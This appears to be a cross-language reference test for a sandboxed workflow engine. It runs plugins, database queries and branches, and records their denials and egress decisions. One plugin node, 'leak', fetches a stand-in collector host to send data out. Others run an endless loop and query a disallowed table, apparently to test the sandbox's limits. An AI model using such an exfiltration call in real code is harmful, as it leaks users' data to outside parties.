/** One workflow in three languages with a database, a branch and a denial, and all of it that must be the same everywhere. */
import { createWorkflowEngine, openSqlite, type RunRecord, type Workflow } from '../../src/workflow.ts';

/** (module (func (export "area") (param f64 f64) (result f64) (f64.mul (local.get 0) (local.get 1)))) */
const MODULE = 'AGFzbQEAAAABBwFgAnx8AXwDAgEABwgBBGFyZWEAAAoJAQcAIAAgAaIL';

const WORKFLOW: Workflow = {
  version: 1,
  name: 'reference',
  nodes: [
    { id: 'start', kind: 'input' },
    { id: 'parse', kind: 'utils.csv', config: { from: '$.csv', numbers: true } },
    { id: 'rows', kind: 'logic.split' },
    {
      id: 'size',
      kind: 'plugin',
      config: { code: 'console.log(input.id); export default ({ w, h }) => [w, h];', into: 'size' },
    },
    { id: 'sizes', kind: 'logic.map', config: { expression: 'item.size' } },
    { id: 'area', kind: 'plugin', config: { runtime: 'wasm', code: MODULE, entry: 'area' } },
    { id: 'large', kind: 'logic.if', config: { expression: 'item.w * item.h > vars.least' } },
    {
      id: 'stats',
      kind: 'plugin',
      mode: 'batch',
      config: {
        runtime: 'python',
        code: 'import statistics\ndef main(input):\n    return [{"mean": statistics.fmean(i["w"] for i in input)}]',
      },
    },
    {
      id: 'known',
      kind: 'db',
      config: { sql: 'select name from known where id = $1', params: ['$.id'], into: 'row' },
    },
    { id: 'leak', kind: 'plugin', config: { code: "await fetch('https://collector.example/' + input.id)" } },
    { id: 'ask', kind: 'http', config: { url: 'https://api.example/{{ item.id }}' } },
    { id: 'spin', kind: 'plugin', config: { code: 'for (;;);', limits: { fuel: 10_000 } } },
    { id: 'drop', kind: 'db', config: { sql: 'select * from hidden' } },
    { id: 'lost', kind: 'logic.collect' },
    { id: 'mark', kind: 'utils.hash' },
  ],
  edges: [
    { from: 'start', to: 'parse' },
    { from: 'parse', to: 'rows' },
    { from: 'rows', to: 'size' },
    { from: 'size', to: 'sizes' },
    { from: 'sizes', to: 'area' },
    { from: 'area', to: 'mark' },
    { from: 'rows', to: 'large' },
    { from: 'large', out: 'true', to: 'stats' },
    { from: 'large', out: 'false', to: 'known' },
    ...['leak', 'ask', 'spin', 'drop'].flatMap(id => [
      { from: 'known', to: id },
      { from: id, out: 'error', to: 'lost' },
    ]),
  ],
};

const told = ({ status, error, output, nodes }: RunRecord): unknown => ({
  status,
  error,
  output,
  nodes: Object.entries(nodes).map(([id, node]) => ({
    id,
    status: node.status,
    error: node.error,
    failedItems: node.failedItems,
    outputs: node.outputs,
    denials: node.denials,
    egress: node.egress.map(({ url, decision, reason, hint }) => ({ url, decision, reason, hint })),
    logs: node.logs.map(({ level, text }) => ({ level, text })),
    fuel: node.usage.fuel,
    runs: node.usage.runs,
  })),
});

/** As JSON: what is compared crosses between processes. */
export async function runReference(): Promise<string> {
  await using engine = createWorkflowEngine({
    databases: {
      main: {
        open: () =>
          openSqlite({ setup: "create table known(id, name); insert into known values (2, 'small one')" }),
        tables: ['known'],
      },
    },
  });
  const csv = 'id,w,h\n1,10,20\n2,1.5,2\n3,30,0.5\n4,7,11\n';
  return JSON.stringify(told(await engine.run(WORKFLOW, { input: { csv }, vars: { least: 20 } })));
}
